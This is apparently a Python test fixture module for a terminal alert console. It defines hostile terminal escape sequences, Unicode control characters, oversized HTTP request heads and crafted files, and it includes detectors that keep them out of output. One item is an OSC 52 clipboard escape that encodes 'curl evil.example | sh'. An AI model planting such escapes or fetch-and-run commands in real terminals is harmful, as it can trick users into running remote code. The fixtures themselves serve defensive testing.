"""The hostile corpus: text an attacker who controls alert content (or a broken service) sends,
and the check that none of it reaches a terminal stream raw; and the crafted files on disk
(caches, config, themes, token commands) that once stopped or stalled the start."""

from __future__ import annotations

import base64
import json
import re
import sys
from pathlib import Path

OSC52 = "\x1b]52;c;" + base64.b64encode(b"curl evil.example | sh").decode() + "\x1b\\"
OSC_TITLE = "\x1b]2;you have been pwned\x1b\\"
SGR_RED = "\x1b[31m"
C1_CSI = "\x9b2J"
NEL = "a\x85b"
MARKUP = "[bold red]x[/]"
LINK = "[link=http://x.example]y[/link]"
RLO = "\u202eevil"
LINE_SEPARATOR = "line\u2028next\u2029para"
ZERO_WIDTH = "zero\u200bwidth\u200c\u200d\ufeff\u2060"
COMBINING = "Z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309alg\u0336o"
WIDE = "🚨🔥 ＷＩＤＥ 漢字"
BRACES = "{oops}"
BELL = "ding\x07"
TAGS = "\U000e0041\U000e0042 invisible tag letters"

CORPUS: tuple[str, ...] = (
    OSC52,
    OSC_TITLE,
    SGR_RED,
    C1_CSI,
    NEL,
    MARKUP,
    LINK,
    RLO,
    LINE_SEPARATOR,
    ZERO_WIDTH,
    COMBINING,
    WIDE,
    BRACES,
    BELL,
    TAGS,
)

# Everything at once, under the service's 130-character message limit.
SHORT = f"{OSC52[:20]}\x1b\\ {SGR_RED}r {C1_CSI} {NEL} {MARKUP} {RLO} \u2028 \u200b {BRACES}\x07"
ALL = " | ".join(CORPUS)

# Raw sequences from the corpus that must never appear in any output, verbatim.
RAW_SEQUENCES = ("\x1b]", "\x1b[31m", "\x9b", "\x85", "\x07", "\u202e", "\u2028", "\u2029")

# What Textual itself writes: CSI sequences (SGR colours, cursor moves). Nothing else may
# carry an ESC, and no other control, separator or direction character may appear raw.
_TEXTUAL_CSI = re.compile(r"\x1b\[[0-9;:?]*[A-Za-z]")
_FORBIDDEN = re.compile(
    "[\x00-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2069"
    "\ufeff\U000e0000-\U000e007f\ud800-\udfff]"
)


def raw_controls(stream: str) -> list[str]:
    """Every raw control, separator or direction character in ``stream`` that Textual's own
    CSI sequences do not explain, and every raw corpus sequence found verbatim."""
    found = [s for s in RAW_SEQUENCES if s in stream]
    # Textual ends each screen line with a newline before the next cursor move.
    rest = _TEXTUAL_CSI.sub("", stream).replace("\n", "")
    found += sorted({f"U+{ord(c):04X}" for c in _FORBIDDEN.findall(rest)})
    return found


def text_controls(text: str, *, multiline: bool = True) -> list[str]:
    """The same check for plain text that should hold no escape sequence at all (logs, the
    journal's values, crash files): newlines allowed when ``multiline``."""
    allowed = {"\n", "\t"} if multiline else set()
    return sorted({f"U+{ord(c):04X}" for c in _FORBIDDEN.findall(text) if c not in allowed})


# ---------------------------------------------------------------------- requests
# What a client of `alert-console serve` can send before its key is checked: heads of
# requests, raw. Each of the bounded ones is over one of the server's limits.
HALF_OPEN_HEAD = b"GET /?key=x HTTP/1.1\r\n"  # and never the rest
BOUNDED_HEADS: dict[str, bytes] = {
    "a 9,000-byte URL": b"GET /?key=" + b"k" * 9000 + b" HTTP/1.1\r\nHost: x\r\n\r\n",
    "40 headers": b"GET / HTTP/1.1\r\nHost: x\r\n"
    + b"".join(b"X-Filler-%d: y\r\n" % i for i in range(40))
    + b"\r\n",
    "a 10,000-byte cookie": b"GET / HTTP/1.1\r\nHost: x\r\nCookie: "
    + b"a=b; " * 2000
    + b"\r\n\r\n",
    "a header without end": b"GET / HTTP/1.1\r\nHost: x\r\nX-Endless: " + b"a" * 100_000,
    "controls in the URL": b"GET /" + OSC_TITLE.encode() + b" HTTP/1.1\r\nHost: x\r\n\r\n",
}


# ---------------------------------------------------------------------- crafted files
# Files on disk that stopped or stalled the start (issue 17), for the tests that start the
# console against them. Numbers are written as JSON's readers meet them: ``Infinity`` is
# what Python's json writes for float("inf") and reads back by default.

INFINITY = "Infinity"
DEEP_JSON = "[" * 100_000 + "]" * 100_000  # a page cache: RecursionError, exit status 0
DEEP_TOML = "views = " + "[" * 3_000 + "]" * 3_000 + "\n"  # a config: a raw traceback
NOT_UTF8_THEME = b"primary = '#d03030'\n# caf\xe9\n"  # Latin-1, named without its file
BIG_THEME_BYTES = 22 * 1024 * 1024  # added 2.6 s to the start
UNCLOSED_ALERT_URL = "{site_url}/jira/{id"  # passed config check, then "b" raised
PRIORITIES = ("P1", "P2", "P3", "P4", "P5")


def page_cache(
    site: str, key: str, *, count: str = "0", extra: str = "{}", values: str = "[]"
) -> str:
    """A kept page as the page cache writes it, ``count``, ``extra`` and ``values`` as raw
    JSON."""
    head = json.dumps({"version": 1, "site": site, "key": key, "at": "2024-05-01T10:00:00+00:00"})
    rest = f'"values": {values}, "count": {count}, "offset": 0, "size": 50, "extra": {extra}'
    return f"{head[:-1]}, {rest}}}"


def wall_counts(p1: str) -> str:
    """The wall's counts kept beside a page (its ``extra``), P1 given as raw JSON."""
    unacked = ", ".join(f'"{p}": {p1 if p == "P1" else 0}' for p in PRIORITIES)
    return f'{{"counts": {{"unacked": {{{unacked}}}, "acked": 0}}}}'


def trend(at: float, p1: str) -> str:
    """One trend point at ``at`` (epoch seconds), P1 given as raw JSON."""
    counts = ", ".join(f'"{p}": {p1 if p == "P1" else 0}' for p in PRIORITIES)
    return f"[[{at}, {{{counts}}}]]"


def flood_command(gigabytes: float) -> list[str]:
    """A token_command printing ``gigabytes`` on one line, a megabyte at a time."""
    script = (
        "import sys\nchunk = b'x' * (1 << 20)\n"
        f"for _ in range(int({gigabytes} * 1024)):\n    sys.stdout.buffer.write(chunk)\n"
    )
    return [sys.executable, "-c", script]


def error_flood_command(gigabytes: float, last_line: str, status: int) -> list[str]:
    """A failing token_command: ``gigabytes`` of errors, then ``last_line``, then ``status``."""
    script = (
        "import sys\nchunk = b'e' * (1 << 20)\n"
        f"for _ in range(int({gigabytes} * 1024)):\n    sys.stderr.buffer.write(chunk)\n"
        f"sys.stderr.write('\\n{last_line}\\n'); sys.exit({status})\n"
    )
    return [sys.executable, "-c", script]


def long_line_command(size: int) -> list[str]:
    """A token_command whose first line is ``size`` bytes."""
    return [sys.executable, "-c", f"print('t' * {size})"]


def token_then_background(token: str, pid_file: Path, seconds: int = 30) -> list[str]:
    """``echo TOKEN; sleep 30 &``: the token at once, a child holding the pipe open (its pid
    written to ``pid_file``, for the test to end it)."""
    return ["sh", "-c", f"echo {token}; sleep {seconds} & echo $! > {pid_file}"]
